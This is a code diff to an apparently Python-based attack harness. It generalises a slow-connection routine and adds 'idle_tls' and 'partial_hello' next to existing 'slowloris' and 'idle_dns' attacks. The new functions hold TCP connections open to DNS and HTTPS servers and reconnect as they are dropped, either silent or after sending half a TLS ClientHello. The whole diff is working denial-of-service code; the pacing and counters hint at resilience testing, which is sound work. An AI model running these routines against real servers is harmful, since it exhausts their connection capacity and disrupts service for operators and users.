@@ -11,6 +11,8 @@ import resource
 import sys
 from collections import Counter
 
+from ..certs import client_hello
+
 
 def split(endpoint: str) -> tuple[str, int]:
     host, _, port = endpoint.rpartition(":")
@@ -46,18 +48,22 @@ async def slowloris(endpoint: str, source: str | None, stop: asyncio.Event, seen
         await asyncio.sleep(1.0)  # pacing: a dropped connection is made again a second later
 
 
-async def idle_dns(endpoint: str, source: str, stop: asyncio.Event, seen: Counter) -> None:
-    """Hold a DNS TCP connection open without a query; reconnect when closed."""
+async def hold(
+    endpoint: str, source: str | None, stop: asyncio.Event, seen: Counter, first: bytes = b""
+) -> None:
+    """Hold a TCP connection open, having sent ``first`` (or nothing); reconnect when closed."""
     host, port = split(endpoint)
+    local = (source, 0) if source else None
     while not stop.is_set():
         try:
-            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
+            reader, writer = await asyncio.open_connection(host, port, local_addr=local)
         except OSError:
             seen["connect failed"] += 1
             await asyncio.sleep(0.2)
             continue
         seen["opened"] += 1
         try:
+            writer.write(first)
             stopped = asyncio.ensure_future(stop.wait())
             eof = asyncio.ensure_future(reader.read(1))
             await asyncio.wait({stopped, eof}, return_when=asyncio.FIRST_COMPLETED)
@@ -72,7 +78,30 @@ async def idle_dns(endpoint: str, source: str, stop: asyncio.Event, seen: Counte
         await asyncio.sleep(1.0)  # pacing, as above
 
 
-ATTACKS = {"slowloris": slowloris, "idle_dns": idle_dns}
+async def idle_dns(endpoint: str, source: str, stop: asyncio.Event, seen: Counter) -> None:
+    """Hold a DNS TCP connection open without a query; reconnect when closed."""
+    await hold(endpoint, source, stop, seen)
+
+
+async def idle_tls(endpoint: str, source: str | None, stop: asyncio.Event, seen: Counter) -> None:
+    """A TCP connection to an HTTPS port that never sends its ClientHello."""
+    await hold(endpoint, source, stop, seen)
+
+
+async def partial_hello(
+    endpoint: str, source: str | None, stop: asyncio.Event, seen: Counter
+) -> None:
+    """A TLS handshake that stops half-way through its ClientHello."""
+    hello = client_hello()
+    await hold(endpoint, source, stop, seen, first=hello[: len(hello) // 2])
+
+
+ATTACKS = {
+    "slowloris": slowloris,
+    "idle_dns": idle_dns,
+    "idle_tls": idle_tls,
+    "partial_hello": partial_hello,
+}
 
 
 async def main(spec: dict) -> dict[str, dict[str, int]]:
